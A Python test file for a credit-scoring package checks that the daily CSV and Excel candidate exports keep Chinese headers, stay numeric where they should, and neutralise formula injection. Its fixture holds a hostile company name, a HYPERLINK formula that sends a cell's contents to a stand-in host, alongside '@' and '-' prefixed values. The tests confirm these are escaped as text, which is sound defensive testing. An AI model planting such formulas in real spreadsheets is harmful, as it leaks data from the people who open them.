"""The day's candidate list as files, from a real PostgreSQL: what Excel opens, and nothing it would run."""

from __future__ import annotations

import csv
import datetime as dt

import openpyxl
import pytest
from sqlalchemy import text

from sme_credit.publish import exports, lifecycle, tracking

D1, D2 = dt.date(2026, 11, 3), dt.date(2026, 11, 4)
HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


@pytest.fixture
def engine(marts_stand_in):
    engine = marts_stand_in
    with engine.begin() as conn:
        for day in (D1, D2):
            conn.execute(
                text(
                    "insert into marts.precredit_candidates (uscc, as_of_date, enterprise_name, risk_tier, "
                    "risk_tier_name_zh, score, suggested_limit, suggested_term_months, suggested_product, rate_band, "
                    "triggered, trigger_condition) values "
                    "('91A', :d, '杭州甲贸易有限公司', 'high_potential', '高潜力支持型', 720, 300000, 12, "
                    "'settlement_flow_loan', 'LPR+0.50%', false, null), "
                    "('91B', :d, :hostile, 'steady', '稳健型', 600, 80000.50, 12, 'tax_credit_loan', 'LPR+1.50%', "
                    "true, 'no_utility_arrears')"
                ),
                {"d": day, "hostile": HOSTILE_NAME},
            )
            conn.execute(
                text(
                    "insert into marts.customer_risk_tiers values ('91A', :d, 'high_potential', 720, false, null), "
                    "('91B', :d, 'steady', 600, false, '-LATE_TAX_FILINGS,THIN_CASH_BUFFER')"
                ),
                {"d": day},
            )
        conn.execute(
            text(
                "insert into marts.early_warning_signals values "
                "('91B', :d1, 'new_arrears', 'medium', 1200, null, 'old news'), "
                "('91B', :d2, 'new_arrears', 'medium', 1500, null, 'still overdue'), "
                "('91A', :d2, 'balance_drained', 'high', 0.03, 0.2, '@SUM(1+1)')"
            ),
            {"d1": D1, "d2": D2},
        )
    tracking.publish_candidates(engine, D1, log=lambda _: None)
    tracking.publish_candidates(engine, D2, log=lambda _: None)
    lifecycle.set_status(engine, "91A", "contacted", "Li Lei")
    return engine


def test_the_csv_opens_in_excel_with_chinese_headers_and_no_formula(engine, tmp_path):
    export = exports.export_day(engine, D2, tmp_path, log=lambda _: None)
    assert export.folder == tmp_path / "2026-11-04" and (export.candidates, export.new_warnings) == (2, 1)
    raw = export.csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with export.csv.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == [header for _, header in exports.CANDIDATE_COLUMNS]
    first, second = rows
    assert (first["统一社会信用代码"], first["风险分层"], first["跟踪状态"], first["建议额度(元)"]) == (
        "91A",
        "高潜力支持型",
        "已联系",
        "300000",
    )
    assert second["企业名称"] == "'" + HOSTILE_NAME  # shown as text, never evaluated
    assert second["主要原因"] == "'-LATE_TAX_FILINGS,THIN_CASH_BUFFER"
    assert second["触发"] == "观察名单触发: no_utility_arrears" and second["跟踪状态"] == "新增"
    for row in rows:
        assert not any(value.startswith(exports.FORMULA_STARTS) for value in row.values())


def test_the_xlsx_has_the_candidates_and_the_new_warnings_on_tracked_firms(engine, tmp_path):
    export = exports.export_day(engine, D2, tmp_path, log=lambda _: None)
    book = openpyxl.load_workbook(export.xlsx)
    candidates, warnings = book.worksheets
    assert candidates.title == "预授信客户 2026-11-04" and warnings.title == "新增预警 2026-11-04"
    rows = list(candidates.iter_rows(values_only=True))
    assert rows[0][0] == "统一社会信用代码" and len(rows) == 3
    for sheet in book.worksheets:  # a bold, frozen header row, and columns wide enough for the Chinese headers
        assert sheet.freeze_panes == "A2" and all(cell.font.b for cell in sheet[1])
        assert sheet.column_dimensions["B"].width >= 10
    assert rows[2][1] == "'" + HOSTILE_NAME and rows[2][5] == 80000.5  # numbers stay numbers
    assert all(cell.data_type != "f" for row in candidates.iter_rows() for cell in row)
    # new_arrears on 91B was already there on D1: only 91A's balance_drained is new, and its detail is text
    assert list(warnings.iter_rows(min_row=2, values_only=True)) == [
        ("91A", "杭州甲贸易有限公司", "balance_drained", "high", 0.03, 0.2, "'@SUM(1+1)", "已联系")
    ]
    # a second export of the date replaces its files
    again = exports.export_day(engine, D2, tmp_path, log=lambda _: None)
    assert sorted(p.name for p in again.folder.iterdir()) == [
        "precredit_candidates_20261104.csv",
        "precredit_candidates_20261104.xlsx",
    ]
